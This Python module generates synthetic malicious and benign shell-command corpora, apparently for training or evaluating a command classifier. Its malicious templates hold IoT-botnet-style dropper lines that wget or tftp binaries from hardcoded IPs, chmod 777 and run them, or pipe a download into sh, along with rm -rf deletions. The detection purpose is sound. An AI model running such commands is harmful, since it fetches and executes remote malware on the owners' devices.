"""Template-generated command corpora for desk-scale experiments.

Malicious templates revolve around wget / chmod 777 / tftp / busybox / rm -rf /
GET /cdn-cgi; benign ones around ls / git / apt / make / ssh / GET /favicon.
With probability ``noise`` a command also carries a clause built from the
other class's tokens. Benign noise clauses are verbatim malicious fragments,
and the malicious side also contains those fragments as bare commands, so a
noisy benign command differs from a malicious one only by its benign words.
"""

from __future__ import annotations

import numpy as np

from .corpus import Command, Label, SourceKind

IPS = ["45.95.168.%d" % i for i in (12, 77, 130, 201)] + ["185.224.128.%d" % i for i in (9, 56, 143)] + ["94.156.8.33"]
BINS = ["mips", "mpsl", "arm7", "x86", "sora.sh", "bins.sh", "ssh.sh", "t8UsA"]
ARCHS = ["mips", "arm", "x86", "ppc", "sh4"]
DIRS = ["/tmp", "/var/run", "/dev/shm", "/mnt", "/root"]
REPOS = ["src", "docs", "build", "tests", "main"]
PKGS = ["curl", "vim", "htop", "python3", "build-essential", "openssh-server", "nginx"]
HOSTS = ["dev01", "lab-gw", "nas.local", "pi4", "build.lan"]
USERS = ["alice", "admin", "ubuntu", "pi"]
TARGETS = ["all", "install", "clean", "test", "docs"]

MALICIOUS_TEMPLATES = [
    "cd {dir}; wget http://{ip}/{bin}; chmod 777 {bin}; ./{bin} {arch}",
    "busybox tftp -g -r {bin} {ip}; chmod 777 {bin}; ./{bin}",
    "rm -rf {dir}/{bin}; busybox wget http://{ip}/{bin} -O {dir}/{bin}",
    "GET /cdn-cgi/l/chk_captcha?id={n} HTTP/1.1",
    "tftp {ip} -c get {bin}; chmod 777 {bin}",
    "/bin/busybox wget http://{ip}/{bin}; /bin/busybox chmod 777 {bin}",
    "wget -q http://{ip}/{bin} -O- | sh; rm -rf {bin}",
    "wget http://{ip}/{bin}",
    "chmod 777 {bin}",
    "rm -rf {dir}/{bin}",
    "/bin/busybox {arch}",
]
BENIGN_TEMPLATES = [
    "ls -la {dir}",
    "git pull origin {repo}",
    "git commit -am 'update {repo}'",
    "sudo apt install {pkg}",
    "sudo apt update && sudo apt upgrade",
    "make -j{n} {target}",
    "ssh {user}@{host}",
    "GET /favicon.ico HTTP/1.1",
    "ls {dir} | grep {pkg}",
]
# clauses that leak the other class's vocabulary into a command
MALICIOUS_NOISE = ["ls -la {dir}", "git status", "make {target}", "ssh {user}@{host}"]
BENIGN_NOISE = ["wget http://{ip}/{bin}", "chmod 777 {bin}", "rm -rf {dir}/{bin}", "/bin/busybox {arch}"]


def _fill(template: str, rng: np.random.Generator) -> str:
    pick = lambda xs: xs[int(rng.integers(len(xs)))]  # noqa: E731
    return template.format(
        dir=pick(DIRS), ip=pick(IPS), bin=pick(BINS), arch=pick(ARCHS), n=int(rng.integers(1, 17)),
        repo=pick(REPOS), pkg=pick(PKGS), host=pick(HOSTS), user=pick(USERS), target=pick(TARGETS),
    )


def _make(n, templates, noise_clauses, noise, label, rng):
    out = []
    for i in range(n):
        text = _fill(templates[int(rng.integers(len(templates)))], rng)
        if rng.random() < noise:
            text = f"{text}; {_fill(noise_clauses[int(rng.integers(len(noise_clauses)))], rng)}"
        out.append(Command(text.encode(), label, f"synthetic-{label.value}-{i}", SourceKind.TEXT_LIST))
    return out


def surrogate_corpus(n_malicious: int = 2000, n_benign: int = 2000, noise: float = 0.2, seed: int = 0) -> list[Command]:
    rng = np.random.default_rng(seed)
    mal = _make(n_malicious, MALICIOUS_TEMPLATES, MALICIOUS_NOISE, noise, Label.MALICIOUS, rng)
    ben = _make(n_benign, BENIGN_TEMPLATES, BENIGN_NOISE, noise, Label.BENIGN, rng)
    return mal + ben
